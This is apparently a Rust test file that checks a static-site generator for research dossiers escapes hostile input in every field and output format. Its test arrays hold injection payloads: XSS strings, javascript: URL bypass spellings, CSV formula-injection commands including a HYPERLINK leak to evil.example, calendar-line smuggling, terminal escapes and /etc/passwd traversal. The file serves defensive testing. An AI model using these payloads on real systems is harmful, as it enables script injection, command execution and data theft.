//! Text that would run, break out of its place or mislead, in every field of every file: it comes out as text.

use std::collections::BTreeMap;
use std::fmt::Write as _;

use scraper::{Html, Selector};
use serde_json::Value;

use crate::harness::{Project, project};
use crate::site_rules::check_site;

type Site = BTreeMap<String, Vec<u8>>;

/// What somebody may put where words belong.
const EVIL: [&str; 27] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title></h1></main><img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "\" autofocus onfocus=\"alert(1)",
    "<p style=\"position:fixed;inset:0;background:url(https://evil.example/x)\">x</p>",
    "</style><style>*{display:none}</style>",
    "<!-- --!> <![CDATA[ x ]]> --> <?php x ?>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "{{ 7*7 }} {% raw %} {% include 'base.html' %} {# x #} ${7*7} <%= 7*7 %>",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "one\r\nEND:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:https://evil.example",
    "one\nTY  - JOUR\nER  - \n}, @article{x, title={y}",
    "nul \0 bell \u{7} back \u{8}\u{8} delete \u{7f} next \u{85} csi \u{9b}31m",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31mred",
    "left \u{202e}txt.exe\u{202c} \u{2066}x\u{2069} \u{200b}\u{feff} \u{fffe}\u{ffff} \u{2028}\u{2029} end",
    "&lt;script&gt; &#60;script&#62; &#x3c;script&#x3e; &nbsp; &amp;lt; &bogus;",
    "<a href=javascript:alert(1)>x</a> [x](javascript:alert(1)) <javascript:alert(1)>",
    "[[javascript:alert(1)]] [@nobody] ![x](data:text/html,x) [[x|<b>y</b>]]",
    "\\u003cscript\\u003e \\\"); alert(1); // \\",
    "a;b,c|d\\,e\\;f\\ng {curly} $math$ ~tilde~ %percent #hash _under_ ^hat^",
    "Zażółć gęślą jaźń",
];

/// A word that no line can hold.
fn long_word() -> String {
    "Donaudampfschifffahrt".repeat(40)
}

/// The text as a YAML scalar in double quotes, whatever it holds.
fn quoted(text: &str) -> String {
    let mut out = String::from("\"");
    for character in text.chars() {
        match character {
            '"' | '\\' => out.extend(['\\', character]),
            ' '..='~' => out.push(character),
            other => write!(out, "\\U{:08X}", u32::from(other)).expect("memory does not fail"),
        }
    }
    out + "\""
}

/// The text as somebody would type it into a body: without what no editor keeps.
fn typed(text: &str) -> String {
    // A link to a thing or an article that is not there is a mistake, not an attack.
    text.replace("[[", "[ [").replace("[@", "(@").replace("](", "] (").replace("<javascript", "< javascript")
}

/// A small dossier that says the text wherever words may stand.
fn dossier(evil: &str) -> Project {
    let (q, body) = (quoted(evil), typed(evil));
    project()
        .base_url("https://tea.example/dossier/")
        .file(
            "content/dossier.yaml",
            format!(
                "title: {q}\nsubtitle: {q}\ndescription: {q}\neditors: [{q}]\nlicence: {q}\nnot_covered: {q}\n\
                 time_zone: Europe/London\nas_of: 2025-10-01\nextra: {{{q}: {q}}}\n"
            ),
        )
        .file(
            "content/articles/a.md",
            format!(
                "---\ntitle: {q}\nauthors: [{q}, Jane Doe]\npublisher: {q}\ndate: 2025-09-10\nadded: 2025-09-12\n\
                 updated: 2025-09-13\nsource: https://paper.example/a\nkind: {q}\ntags: [{q}]\nextra: {{{q}: {q}}}\n\
                 corrections: [{{date: 2025-09-13, text: {q}}}, {q}]\nderived_from: [{q}]\n\
                 mentions: [{{text: {q}, is: p}}]\ndescription: {q}\n---\n\
                 First words. {body} Last words.\n\n> {body}\n\n“{body}” said Ada Hall.\n\n# {body}\n\n- {body}\n\n\
                 `{body}`\n\n| {body} |\n|---|\n| {body} |\n\n[^1] and {body}\n\n[^1]: {body}\n"
            ),
        )
        .file("content/articles/b.txt", format!("{body}\n\nWords of Ada Hall. {body}\n\n{body}\n"))
        .file(
            "content/people/p.md",
            format!(
                "---\nname: {q}\naliases: [{q}, {{name: {q}, from: 2001}}, Ada Hall]\nborn: 1970\nrole: [{q}, {{text: {q}, from: 2001}}]\n\
                 image: p.svg\nimage_text: {q}\nlinks: [{{label: {q}, url: 'https://wiki.example/p'}}]\ntags: [{q}]\n\
                 relations: [{{to: o, kind: {q}}}, {{to: q, kind: {q}}}]\nsources: [a]\nadded: 2025-09-12\nextra: {{{q}: {q}}}\n\
                 claims: [{{question: {q}, accounts: [{{value: {q}, sources: [a], note: {q}}}]}}]\n---\n\
                 {body}\n\nA word [@a, ¶1] and [[e]] and [[a|{}]].\n",
                body.replace(['[', ']', '|', '\n', '\r'], " ")
            ),
        )
        .file("content/people/p.svg", "<svg/>")
        .file("content/people/q.md", format!("---\nname: {q}\n---\n"))
        .file("content/organisations/o.md", format!("---\nname: {q}\nfounded: 1900\nrole: {q}\n---\n{body}\n"))
        .file("content/places/l.md", format!("---\nname: {q}\nrole: {q}\n---\n{body}\n"))
        .file(
            "content/events/e.md",
            format!(
                "---\ntitle: {q}\ndate: 2025-09-10\nplace: l\npeople: [p, q]\norganisations: [o]\nkind: {q}\ntags: [{q}]\n\
                 added: 2025-09-12\ncorrections: [{{date: 2025-09-13, text: {q}}}]\n\
                 sources: [b, {{article: a, quote: First words}}]\nclaims:\n  - question: {q}\n    scope: {q}\n    accounts:\n      \
                 - {{value: {q}, note: {q}, sources: [{{article: a, passage: 1}}]}}\n      - {{value: other, sources: [b]}}\n    \
                 resolution: {{account: 1, why: {q}, date: 2025-09-14}}\n---\n{body}\n"
            ),
        )
        .file("content/pages/about.md", format!("---\ntitle: {q}\ndescription: {q}\n---\n{body}\n\n## {body}\n"))
}

fn text<'s>(route: &str, bytes: &'s [u8]) -> &'s str {
    std::str::from_utf8(bytes).unwrap_or_else(|error| panic!("{route}: {error}"))
}

/// Every file of a site is what its ending says, and holds nothing that a reader's program would obey.
fn check_files(site: &Site) {
    for (route, bytes) in site {
        match route.rsplit_once('.').map_or("", |(_, ending)| ending) {
            "html" => check_page(route, text(route, bytes)),
            "json" => drop(json(route, text(route, bytes))),
            "js" if route.contains("search-") => check_call("cuttingsSearch", route, text(route, bytes)),
            "js" if route.contains("previews/") => check_call("cuttingsPreviews", route, text(route, bytes)),
            "xml" => check_xml(route, text(route, bytes)),
            "csv" => check_table(route, text(route, bytes)),
            "ics" => check_calendar(route, text(route, bytes)),
            "ris" => check_ris(route, text(route, bytes)),
            "ftm" => text(route, bytes).lines().for_each(|line| drop(json(route, line))),
            "bib" => {
                let found = biblatex::Bibliography::parse(text(route, bytes));
                assert_eq!(found.unwrap_or_else(|error| panic!("{route}: {error}")).len(), 2, "{route}");
            }
            _ => {}
        }
    }
}

fn json(route: &str, text: &str) -> Value {
    serde_json::from_str(text).unwrap_or_else(|error| panic!("{route}: {error}"))
}

/// No control character, none that turns the direction of what follows, and no element that the theme does not use.
fn check_page(route: &str, html: &str) {
    let odd = html.chars().find(|c| is_unseen(*c));
    assert_eq!(odd, None, "{route}: {}", around(html, odd));
    let page = Html::parse_document(html);
    for name in [
        "svg [onload]",
        "[srcdoc]",
        "[autofocus]",
        "main main",
        "title title",
        "b",
        "xmp",
        "plaintext",
        "noscript",
    ] {
        let selector = Selector::parse(name).expect("the selector is right");
        assert_eq!(page.select(&selector).count(), 0, "{route}: {name}");
    }
    for script in page.select(&Selector::parse("script[src]").expect("right")) {
        let address = script.attr("src").unwrap_or_default();
        let is_own =
            ["assets/search", "assets/copy.", "assets/previews.", "assets/shortcut.", "assets/timeline."]
                .iter()
                .any(|own| address.contains(own));
        assert!(is_own, "{route}: {address}");
    }
}

fn is_unseen(character: char) -> bool {
    (character.is_control() && !matches!(character, '\n' | '\t'))
        || matches!(character, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}' | '\u{fffe}' | '\u{ffff}')
}

fn around(text: &str, odd: Option<char>) -> String {
    let Some(at) = odd.and_then(|odd| text.find(odd)) else { return String::new() };
    text[..at].chars().rev().take(80).collect::<Vec<_>>().into_iter().rev().collect()
}

/// A script that calls one function with one value, and is nothing else.
fn check_call(function: &str, route: &str, script: &str) {
    if !script.starts_with(function) {
        return;
    }
    let (_, argument) = script.split_once('(').expect("a call");
    let argument =
        argument.trim_end().strip_suffix(");").unwrap_or_else(|| panic!("{route} does not end as a call"));
    // A call with several arguments is a list of values.
    json(route, &format!("[{argument}]"));
    for bad in ["</script", "<!--", "\u{2028}", "\u{2029}"] {
        assert!(!script.contains(bad), "{route}: {bad:?}");
    }
}

fn check_xml(route: &str, xml: &str) {
    let document = roxmltree::Document::parse(xml).unwrap_or_else(|error| panic!("{route}: {error}"));
    for node in document.descendants() {
        for attribute in node.attributes().filter(|one| one.name() == "href") {
            assert!(attribute.value().starts_with("http"), "{route}: {}", attribute.value());
        }
        assert!(!["script", "style", "iframe"].contains(&node.tag_name().name()), "{route}");
    }
}

fn check_table(route: &str, table: &str) {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(table.as_bytes());
    for row in reader.records() {
        let row = row.unwrap_or_else(|error| panic!("{route}: {error}"));
        for cell in &row {
            let is_number = cell.parse::<f64>().is_ok();
            let begins = cell.trim_start().starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(is_number || !begins, "{route}: {cell}");
            assert!(!cell.contains(is_unseen), "{route}: {cell:?}");
        }
    }
}

/// Lines end in CR LF and have at most 75 bytes; unfolded, each is a property that calendars know.
fn check_calendar(route: &str, calendar: &str) {
    for line in calendar.split_terminator("\r\n") {
        assert!(line.len() <= 75 && !line.contains(['\r', '\n', '\0', '\u{1b}']), "{route}: {line:?}");
    }
    let unfolded = calendar.replace("\r\n ", "");
    for line in unfolded.split_terminator("\r\n") {
        let name = line.split([':', ';']).next().unwrap_or_default();
        let is_name = !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'-');
        assert!(is_name && name != "ATTACH" && line.contains(':'), "{route}: {line:?}");
    }
    assert_eq!(unfolded.matches("\r\nBEGIN:VEVENT\r\n").count(), 1, "{route}");
    assert!(unfolded.ends_with("END:VEVENT\r\nEND:VCALENDAR\r\n"), "{route}");
}

fn check_ris(route: &str, ris: &str) {
    for line in ris.split_terminator("\r\n").filter(|line| !line.is_empty()) {
        let head: Vec<char> = line.chars().take(6).collect();
        let is_tag = head.len() == 6 && head[0].is_ascii_uppercase() && head[2..] == [' ', ' ', '-', ' '];
        assert!(is_tag && !line.contains(['\r', '\n']), "{route}: {line:?}");
    }
    assert_eq!(ris.matches("TY  - ").count() - ris.matches(" TY  - ").count(), 2, "{route}");
}

#[test]
fn words_that_would_run_stay_words() {
    for evil in EVIL.iter().copied().map(str::to_owned).chain([long_word()]) {
        let site = dossier(&evil).site();
        check_site(&site);
        check_files(&site);
        let data = json("data/dossier.json", text("data/dossier.json", &site["data/dossier.json"]));
        let name = data["people"][0]["name"].as_str().unwrap_or_default();
        let seen = |text: &str| text.split_whitespace().map(str::to_owned).collect::<String>();
        let wanted: String = seen(&evil).chars().filter(|c| !is_unseen(*c)).collect();
        let found: String = seen(name).chars().filter(|c| !is_unseen(*c)).collect();
        assert_eq!(found, wanted, "the data keep what was written");
    }
}

#[test]
fn templates_in_texts_are_not_filled_in() {
    let site = dossier("{{ 7*7 }}{% if 1 %}x{% endif %}").site();
    let page = text("index.html", &site["index.html"]);
    let page = Html::parse_document(page);
    let heading = page.select(&Selector::parse("h1").expect("right")).next().expect("a heading");
    assert_eq!(heading.text().collect::<String>().trim(), "{{ 7*7 }}{% if 1 %}x{% endif %}");
}

/// Addresses that run, in the spellings that have got past one filter or another.
const ADDRESSES: [&str; 20] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript\u{0}:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "https://evil.example/\" onclick=\"alert(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
];

#[test]
fn addresses_that_run_are_refused_in_headers() {
    for address in ADDRESSES {
        let q = quoted(address);
        let found = project()
            .file(
                "content/articles/a.md",
                format!("---\ntitle: A\nsource: {q}\narchived: {q}\n---\nWords.\n"),
            )
            .file(
                "content/articles/b.md",
                format!("---\ntitle: B\narchived: {{url: {q}}}\n---\nOther words.\n"),
            )
            .file(
                "content/people/p.md",
                format!("---\nname: P\nlinks: [{q}, {{label: x, url: {q}}}, {{Wikidata: {q}}}]\n---\n"),
            )
            .file("content/dossier.yaml", format!("title: T\nbase_url: {q}\n"));
        let problems = found.problems();
        assert_eq!(problems.matches("error[bad-address]").count(), 7, "{address:?}\n{problems}");
        check_screen(&found.screen());
    }
}

#[test]
fn addresses_that_run_lead_nowhere_in_texts() {
    for address in ADDRESSES {
        let forms = [
            format!("[x]({address})"),
            format!("[x](<{address}>)"),
            format!("<{address}>"),
            format!("![x]({address})"),
            format!("[x][r]\n\n[r]: {address}"),
            format!("[[{address}]]"),
            format!("[[{address}|x]]"),
            format!("<a href=\"{address}\">x</a>"),
        ];
        for form in forms {
            let made = project()
                .file("content/articles/a.md", format!("Words. {form}\n"))
                .file("content/pages/about.md", format!("# About\n\n{form}\n"));
            check_screen(&made.screen());
            if !made.problems().contains("error[") {
                check_site(&made.site());
            }
        }
    }
}

#[test]
fn pictures_lead_to_files_of_the_dossier() {
    for address in
        ADDRESSES.iter().copied().chain(["https://evil.example/x.png", "../../../etc/passwd", "/etc/passwd"])
    {
        let made =
            project().file("content/people/p.md", format!("---\nname: P\nimage: {}\n---\n", quoted(address)));
        assert!(made.problems().contains("error["), "{address:?}\n{}", made.problems());
        check_screen(&made.screen());
    }
}

/// What stands on the screen moves no cursor, changes no colour and turns no line around.
fn check_screen(screen: &str) {
    let odd = screen.chars().find(|c| is_unseen(*c));
    assert_eq!(odd, None, "{}", around(screen, odd));
}

#[test]
fn messages_are_text_whatever_they_repeat() {
    for evil in EVIL {
        let (q, body) = (quoted(evil), typed(evil));
        let screen = project()
            .file(
                "content/dossier.yaml",
                format!("title: [{q}]\n{q}: 1\nlanguage: {q}\ntheme: {q}\nchecks: {{{q}: off}}\nrights: {q}\n"),
            )
            .file(
                "content/articles/a.md",
                format!("---\ntitle: A\ndate: {q}\nslug: {q}\n{q}: {q}\nmentions: [{{text: x, is: {q}}}]\n---\n[[{evil}]] [@{evil}] {body}\n"),
            )
            .file("content/articles/b.md", format!("---\ntitle: {evil}\n"))
            .file("content/articles/c.md", format!("---\n{evil}\n---\n{evil}\n"))
            .file("content/people/p.md", format!("---\nname: {q}\nimage: {q}\nborn: {q}\n---\n![]({evil})\n"))
            .file(
                "content/events/e.md",
                format!("---\ntitle: {q}\npeople: [{q}]\nplace: {q}\nsources: [{q}, {{article: a, quote: {q}}}]\n---\n“{evil}” [@a]\n"),
            )
            .file("themes/default/templates/event.html", format!("{{% {evil} %}}{{{{ x | {evil} }}}}"))
            .screen();
        assert!(screen.contains("error"), "{screen}");
        check_screen(&screen);
    }
}

/// File names that a disk allows and a page, a script or a table could stumble over.
const NAMES: [&str; 17] = [
    "<img src=x onerror=alert(1)>",
    "a\"b'c",
    "{{ 7*7 }}",
    "{% raw %}",
    "=cmd",
    "-x",
    "@x",
    "javascript:alert(1)",
    "a?b#c",
    "100%",
    "a%2e%2e%2fb",
    "a&amp;b",
    "a b  c",
    "a]]b[[c|d",
    "…",
    "é\u{301}\u{202e}x",
    "ж中😀",
];

#[test]
fn file_names_of_any_kind_are_refused_or_lead_to_their_pages() {
    for name in NAMES {
        let made = project()
            .base_url("https://tea.example/")
            .file(&format!("content/articles/{name}.md"), "# A title\n\nAda Hall came at five.\n")
            .file(&format!("content/people/p{name}.md"), "---\nname: Ada Hall\n---\n")
            .file(&format!("content/events/e{name}.md"), "---\ntitle: E\ndate: 2025-09-10\n---\n")
            .file(&format!("content/pages/f{name}.md"), "# A page\n\n")
            .file(&format!("content/pictures/{name}.png"), "no picture");
        check_screen(&made.screen());
        if made.problems().contains("error[") {
            continue;
        }
        let site = made.site();
        check_site(&site);
        for (route, bytes) in &site {
            match route.rsplit_once('.').map_or("", |(_, ending)| ending) {
                "json" => drop(json(route, text(route, bytes))),
                "js" => check_call("cuttingsSearch", route, text(route, bytes)),
                "xml" => check_xml(route, text(route, bytes)),
                "csv" => check_table(route, text(route, bytes)),
                _ => {}
            }
        }
    }
}
